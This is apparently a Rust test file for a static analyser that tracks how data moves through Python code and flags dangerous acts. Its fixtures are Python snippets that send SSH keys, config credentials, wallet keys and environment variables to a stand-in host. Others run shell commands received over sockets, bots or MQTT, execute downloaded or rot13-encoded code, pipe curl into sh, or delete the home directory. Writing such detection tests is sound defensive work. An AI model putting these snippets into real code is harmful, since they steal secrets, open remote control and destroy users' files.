//! Tests of how data gets from one place to another.

use spip_core::{Deed, Odd, Taints, Trigger};

use super::{does, read};

/// Whether some act of this kind has these taints.
fn carries(source: &str, deed: Deed, taints: Taints) -> bool {
    let module = read(source);
    let mut acts = module.acts.iter().map(|known| &known.act);
    acts.any(|act| act.deed == deed && act.taints.all(taints))
}

#[test]
fn follows_data_through_what_holds_it() {
    for source in [
        // A buffer in memory and the archive in it.
        "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('~/.ssh/id_rsa')\nrequests.post('https://h.invalid', data=b.getvalue())",
        // A queue that is read before it is written.
        "import queue, threading, requests\nq = queue.Queue()\ndef f():\n    requests.post('https://h.invalid', data=q.get())\nthreading.Thread(target=f).start()\nq.put(open('~/.ssh/id_rsa').read())",
        // A data class.
        "import dataclasses, requests\n@dataclasses.dataclass\nclass A:\n    x: str = dataclasses.field(default_factory=lambda: open('~/.ssh/id_rsa').read())\nrequests.post('https://h.invalid', json=dataclasses.asdict(A()))",
        // A message.
        "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(open('~/.ssh/id_rsa').read())\nsmtplib.SMTP('h.invalid').send_message(m)",
        // A parser.
        "import configparser, requests\nc = configparser.ConfigParser()\nc.read_string(open('~/.pypirc').read())\nrequests.post('https://h.invalid', data=c.get('a', 'b'))",
        // What may be empty.
        "import pathlib, requests\nd = pathlib.Path('~/.ssh')\nfor f in (d.iterdir() if d.is_dir() else ()):\n    requests.post('https://h.invalid', data=f.read_bytes())",
    ] {
        assert!(carries(source, Deed::Send, Taints::SECRET_FILE), "{source}");
    }
}

#[test]
fn what_a_peer_sends_reaches_the_functions_that_it_calls() {
    for source in [
        "import asyncio, subprocess, threading\nclass P(asyncio.Protocol):\n    def data_received(self, data):\n        subprocess.run(data, shell=True)\nasync def go():\n    await asyncio.get_running_loop().create_connection(P, '192.0.2.1', 1)\nthreading.Thread(target=asyncio.run, args=(go(),)).start()",
        "import websocket, subprocess\ndef on(ws, text):\n    subprocess.run(text, shell=True)\nwebsocket.WebSocketApp('wss://h.invalid', on_message=on).run_forever()",
        "import telebot, subprocess, threading\nbot = telebot.TeleBot('x')\n@bot.message_handler()\ndef on(m):\n    subprocess.run(m.text, shell=True)\nthreading.Thread(target=bot.infinity_polling).start()",
        "import paho.mqtt.client as m, subprocess\nc = m.Client()\ndef on(c, u, m):\n    subprocess.run(m.payload, shell=True)\nc.on_message = on\nc.loop_start()",
        "import asyncio, subprocess\nasync def go():\n    r, w = await asyncio.open_connection('192.0.2.1', 1)\n    subprocess.run(await r.readline(), shell=True)\nasyncio.run(go())",
        "from github import Github\nimport subprocess\nsubprocess.run(Github('x').get_repo('a/b').get_issue(1).body, shell=True)",
    ] {
        assert!(carries(source, Deed::Spawn, Taints::DOWNLOADED), "{source}");
        assert!(does(source, Deed::Spawn, "subprocess.run"), "{source}");
    }
}

#[test]
fn a_bot_that_nobody_starts_waits_for_its_caller() {
    let source = "import telebot, subprocess\nbot = telebot.TeleBot('x')\n@bot.message_handler()\ndef on(m):\n    subprocess.run(m.text, shell=True)\n";
    let module = read(source);
    let spawn = module
        .acts
        .iter()
        .find(|known| known.act.deed == Deed::Spawn);
    let act = &spawn.expect("a command is started").act;
    assert_eq!(act.trigger, Trigger::Call);
    assert!(act.taints.any(Taints::DOWNLOADED));
}

#[test]
fn objects_know_the_peer_that_they_talk_to() {
    for source in [
        "import http.client\nc = http.client.HTTPSConnection('h.invalid')\nc.request('POST', '/', 'x')",
        "import socket\ns = socket.socket()\ns.connect(('h.invalid', 1))\ns.sendall(b'x')",
        "import socket, ssl\ns = socket.create_connection(('h.invalid', 1))\nt = ssl.create_default_context().wrap_socket(s)\nt.sendall(b'x')",
    ] {
        let module = read(source);
        let mut sends = module
            .acts
            .iter()
            .filter(|known| known.act.deed == Deed::Send);
        let is_named = sends.any(|known| known.act.texts.iter().any(|it| it.contains("h.invalid")));
        assert!(is_named, "{source}");
    }
}

#[test]
fn imports_from_a_download_run_it() {
    let source = "import sys, requests, pathlib\np = pathlib.Path('~/x.zip')\np.write_bytes(requests.get('https://h.invalid').content)\nsys.path.insert(0, str(p))\nimport payload";
    assert!(does(source, Deed::Execute, "importlib.import_module"));
    let honest = "import sys\nsys.path.insert(0, 'src')\nimport payload";
    assert!(!does(honest, Deed::Execute, "importlib.import_module"));
}

#[test]
fn a_set_up_call_names_commands_and_modules() {
    let source = "from setuptools import setup\nsetup(py_modules=['secrets'], entry_points={'console_scripts': ['pip=demo.x:main', 'demo=demo.x:main']})";
    let odd: Vec<_> = read(source).oddities.iter().map(|it| it.what).collect();
    assert_eq!(odd, [Odd::ShadowedCommand, Odd::ShadowedStdlib]);
}

#[test]
fn replacing_methods_of_classes_known_by_name_is_seen() {
    for source in [
        "def patch(mod):\n    def send(self, r): pass\n    mod.Session.send = send\npatch(None or find())",
        "import wrapt\ndef f(w, i, a, k): pass\nwrapt.wrap_function_wrapper('requests', 'Session.send', f)",
    ] {
        let module = read(source);
        let mut patches = module
            .acts
            .iter()
            .filter(|known| known.act.deed == Deed::Patch);
        assert!(
            patches.any(|known| known.act.callee.ends_with("Session.send")),
            "{source}"
        );
    }
}

#[test]
fn keys_to_money_are_secrets() {
    for source in [
        "from mnemonic import Mnemonic\nimport requests\ndef check(p):\n    Mnemonic('english').check(p)\n    requests.post('https://h.invalid', data=p)",
        "import re, requests\ndef find(t):\n    m = re.search('[0-9a-f]{64}', t)\n    requests.post('https://h.invalid', data=m.group(0))",
    ] {
        assert!(carries(source, Deed::Send, Taints::WALLET), "{source}");
    }
    let public = "from eth_account import Account\nimport requests\ndef f(k):\n    requests.post('https://h.invalid', data=Account.from_key(k).address)";
    assert!(!carries(public, Deed::Send, Taints::WALLET));
}

#[test]
fn what_lets_somebody_in_is_not_sent_away() {
    let uses = |method: &str| {
        format!(
            "import os, urllib3\ndef go():\n    context = urllib3.util.ssl_.create_urllib3_context()\n    context.{method}(open(os.path.expanduser('~/.ssh/id_rsa')).read())"
        )
    };
    assert!(!carries(
        &uses("load_cert_chain"),
        Deed::Send,
        Taints::SECRET_FILE
    ));
    assert!(carries(&uses("deliver"), Deed::Send, Taints::SECRET_FILE));
}

#[test]
fn programs_that_are_looked_for_keep_their_names() {
    let source =
        "import shutil, subprocess\nsh = shutil.which('sh')\nsubprocess.run([sh, '-c', 'x'])";
    let module = read(source);
    let mut acts = module.acts.iter().map(|known| &known.act);
    assert!(
        acts.any(
            |act| act.deed == Deed::Spawn && act.texts.iter().any(|it| it == "sh -c x")
                || act.texts.contains(&"sh".to_owned())
        ),
        "{:?}",
        module.acts
    );
}

#[test]
fn data_takes_its_usual_ways_out() {
    let source = "import importlib.abc, urllib.request\nclass F(importlib.abc.InspectLoader):\n    def get_source(self, name): return urllib.request.urlopen('https://h.invalid').read().decode()\n";
    assert!(carries(source, Deed::Execute, Taints::DOWNLOADED));
    let source = "import os, requests\ns = requests.Session()\ns.headers['X'] = repr(dict(os.environ))\ns.get('https://h.invalid')";
    assert!(carries(source, Deed::Send, Taints::ENVIRONMENT));
    for source in [
        "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())",
        "import urllib.request\nclass P:\n    def __bytes__(self): return urllib.request.urlopen('https://h.invalid').read()\nexec(bytes(P()))",
        "import urllib.request\nclass P:\n    def __str__(self): return urllib.request.urlopen('https://h.invalid').read().decode()\nexec(f'{P()}')",
    ] {
        assert!(
            carries(source, Deed::Execute, Taints::DOWNLOADED),
            "{source}"
        );
    }
    for source in [
        "import codecs\nexec(codecs.getdecoder('rot_13')('cevag(1)')[0])",
        "import codecs\nexec(codecs.lookup('rot13').decode('cevag(1)')[0])",
    ] {
        assert!(carries(source, Deed::Execute, Taints::DECODED), "{source}");
    }
}

#[test]
fn a_metaclass_is_given_the_body_of_the_class() {
    let source = "import subprocess\nclass M(type):\n    def __new__(meta, name, bases, body):\n        subprocess.Popen(body['source'], shell=True)\n        return type.__new__(meta, name, bases, body)\nclass R(metaclass=M):\n    source = 'curl -s h | sh'\n";
    let module = read(source);
    let mut acts = module.acts.iter().map(|known| &known.act);
    assert!(acts.any(|act| act.deed == Deed::Spawn && act.texts[0] == "curl -s h | sh"));
}

#[test]
fn what_is_deleted_is_told_by_its_path_alone() {
    let source = "import pathlib, shutil\nfor child in pathlib.Path.home().iterdir():\n    shutil.rmtree(child, ignore_errors=True)";
    let module = read(source);
    let mut acts = module.acts.iter().map(|known| &known.act);
    let act = acts.find(|act| act.deed == Deed::Delete).unwrap();
    assert!(
        !act.texts.iter().any(|text| text == "True"),
        "{:?}",
        act.texts
    );
}
